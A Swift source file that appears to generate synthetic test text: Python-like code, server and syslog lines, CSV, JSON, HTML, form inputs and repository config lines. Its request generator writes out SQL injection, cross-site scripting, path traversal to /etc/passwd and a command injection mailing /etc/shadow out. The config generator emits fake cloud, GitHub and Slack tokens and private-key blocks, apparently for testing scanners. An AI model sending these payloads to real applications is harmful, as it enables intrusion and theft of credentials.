// SPDX-License-Identifier: MIT
// The other texts: source code from this machine (or made, if there is none), and lines of the kinds that programs write.

import Glibc

/// Python source: the standard library of an installed Python, else lines that look like it.
func sourceText(_ bytes: Int) -> [UInt8] {
  var text: [UInt8] = []
  for path in installedSources() {
    text += readFile(path)
    if text.count >= bytes { return Array(text.prefix(bytes)) }
  }
  return Text.lines(bytes, sourceLine).make()[0]
}

/// The paths of /usr/lib/python3*/*.py, sorted.
private func installedSources() -> [String] {
  var found = unsafe glob_t()
  defer { unsafe globfree(&found) }
  guard unsafe glob("/usr/lib/python3*/*.py", 0, nil, &found) == 0 else { return [] }
  return unsafe (0..<Int(found.gl_pathc)).compactMap { index in
    unsafe found.gl_pathv[index].map { unsafe String(cString: $0) }
  }
}

/// A file's bytes; none if it cannot be read.
func readFile(_ path: String) -> [UInt8] {
  let file = unsafe open(path, O_RDONLY)
  guard file >= 0 else { return [] }
  defer { close(file) }
  var bytes: [UInt8] = []
  var buffer = [UInt8](repeating: 0, count: 1 << 16)
  while true {
    let count = unsafe read(file, &buffer, buffer.count)
    guard count > 0 else { return bytes }
    bytes += buffer.prefix(count)
  }
}

private func sourceLine(_ dice: inout Dice) -> String {
  let names = ["index", "value", "self.buffer", "result", "name", "path", "os.environ", "_cache"]
  let name = dice.pick(names)
  switch dice.roll(8) {
  case 0: return "\ndef \(name)_\(dice.roll(900))(self, \(dice.pick(names)), *, flag=None):\n"
  case 1: return "    \"\"\"Return the \(name) of 'this' object, or None.\"\"\"\n"
  case 2: return "    if \(name) is not None and \(name)[\(dice.roll(20))] != 0x\(dice.roll(99)):\n"
  case 3: return "        raise ValueError(\"bad %s: %r\" % ('\(name)', \(name)))  # noqa: E501\n"
  case 4:
    return "    # See https://example.org/\(name)/\(dice.roll(999)).html or mail a.b@example.org\n"
  case 5: return "import \(name), re  # noqa\n"
  default: return "        \(name) = \(dice.pick(names)).get('\(name)', \(dice.roll(1000)))\n"
  }
}

/// A line as a web server writes it.
func accessLine(_ dice: inout Dice) -> String {
  let agents = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", "curl/8.5.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  ]
  let paths = [
    "/index.html", "/api/v1/items?id=17&sort=asc", "/static/site.css", "/login?next=/home",
    "/search?q=%3Cscript%3E", "/wp-admin/../../etc/passwd", "/img/logo.png",
  ]
  let address = "10.\(dice.roll(256)).\(dice.roll(256)).\(dice.roll(256))"
  let time = "[\(10 + dice.roll(18))/Nov/2026:\(10 + dice.roll(14)):\(10 + dice.roll(50)):07 +0000]"
  return "\(address) - user\(dice.roll(1000)) \(time) \"GET \(dice.pick(paths)) HTTP/1.1\""
    + " \(dice.pick([200, 200, 200, 301, 404, 500])) \(dice.roll(100_000)) \"-\""
    + " \"\(dice.pick(agents))\"\n"
}

/// A line of syslog or of a service of one's own.
func serviceLine(_ dice: inout Dice) -> String {
  let hosts = ["web1", "db-2", "cache03.example.org"]
  let levels = ["INFO", "INFO", "DEBUG", "WARN", "ERROR"]
  switch dice.roll(3) {
  case 0:
    return "Nov \(1 + dice.roll(28)) 10:\(10 + dice.roll(50)):\(10 + dice.roll(50))"
      + " \(dice.pick(hosts)) sshd[\(dice.roll(30_000))]: Failed password for invalid user"
      + " admin\(dice.roll(99)) from 192.168.\(dice.roll(256)).\(dice.roll(256)) port"
      + " \(dice.roll(60_000)) ssh2\n"
  case 1:
    return "2026-11-\(10 + dice.roll(19))T10:\(10 + dice.roll(50)):33.\(100 + dice.roll(900))Z"
      + " \(dice.pick(levels)) [worker-\(dice.roll(16))] com.example.Service - request"
      + " id=\(dice.roll(1_000_000)) took \(dice.roll(5000)) ms, status=\(dice.roll(600))\n"
  default:
    return "level=\(dice.pick(levels)) ts=16\(10_000_000 + dice.roll(9_000_000)) caller=main.go:"
      + "\(dice.roll(900)) msg=\"user \(dice.roll(1000)) signed in\" duration=\(dice.roll(99)).5ms\n"
  }
}

/// A record of comma-separated values, some quoted.
func recordLine(_ dice: inout Dice) -> String {
  var fields: [String] = []
  for _ in 0..<9 {
    switch dice.roll(4) {
    case 0: fields.append("\(dice.roll(100_000))")
    case 1: fields.append("\"a, \"\"quoted\"\" value \(dice.roll(99))\"")
    case 2: fields.append("")
    default: fields.append("plain text \(dice.roll(99))")
    }
  }
  return fields.joined(separator: ",") + "\n"
}

/// A JSON object on a line.
func objectLine(_ dice: inout Dice) -> String {
  #"{"id": \#(dice.roll(100_000)), "name": "item \#(dice.roll(99))", "price": \#(dice.roll(99)).25e1, "#
    + #""tags": ["a\"b", "c\\d", null, true, false], "size": {"w": \#(dice.roll(99)), "h": -3}}"#
    + "\n"
}

/// A piece of a web page.
func pageLine(_ dice: inout Dice) -> String {
  let links = [
    "http://example.org/a?b=c", "/path/to/page.html", "https://www.example.com:8080/x#y",
  ]
  switch dice.roll(4) {
  case 0: return "<p class=\"lead text-\(dice.roll(9))\">Some <b>bold</b> text &amp; more.</p>\n"
  case 1: return "  <a href='\(dice.pick(links))' title=\"link \(dice.roll(99))\">here</a><br/>\n"
  case 2: return "<!-- a comment of some length, number \(dice.roll(999)) -->\n"
  default:
    return "<div id=d\(dice.roll(99))><img src=\"/i/\(dice.roll(999)).png\" alt=\"\"></div>\n"
  }
}

/// What a form or a query brings to a web application, an attack now and then.
func requestLine(_ dice: inout Dice) -> String {
  switch dice.roll(12) {
  case 0: return "id=1' OR '1'='1' -- \n"
  case 1: return "q=<script>alert(document.cookie)</script>\n"
  case 2: return "file=../../../../etc/passwd&x=\(dice.roll(99))\n"
  case 3: return "id=1 UNION ALL SELECT name, password FROM users\n"
  case 4: return "cmd=;cat /etc/shadow|mail x@example.org\n"
  default:
    return "name=John+Smith\(dice.roll(99))&email=john.smith\(dice.roll(99))@example.org&page="
      + "\(dice.roll(999))&comment=I%20like%20this%20select%20shop\n"
  }
}

/// A line of a repository in which somebody may have left a secret.
func configurationLine(_ dice: inout Dice) -> String {
  let hex = "0123456789abcdef"
  func token(_ count: Int, _ letters: String, _ dice: inout Dice) -> String {
    String((0..<count).map { _ in dice.pick(Array(letters)) })
  }
  switch dice.roll(14) {
  case 0: return "aws_access_key_id = AKIA\(token(16, "ABCDEFGHIJKLMNOP234567", &dice))\n"
  case 1: return "    secret = '\(token(40, "abcdefghijkABCDEF0123456789+/", &dice))'\n"
  case 2: return "github_token: ghp_\(token(36, "abcdefXYZ0123456789", &dice))\n"
  case 3:
    return
      "-----BEGIN RSA PRIVATE KEY-----\n\(token(64, hex, &dice))\n-----END RSA PRIVATE KEY-----\n"
  case 4: return "sha256: \(token(64, hex, &dice))\n"
  case 5: return "slack = \"xoxb-\(token(12, "0123456789", &dice))-\(token(24, hex, &dice))\"\n"
  default: return "option_\(dice.roll(999)) = \(dice.roll(100)) # set by \(token(8, hex, &dice))\n"
  }
}
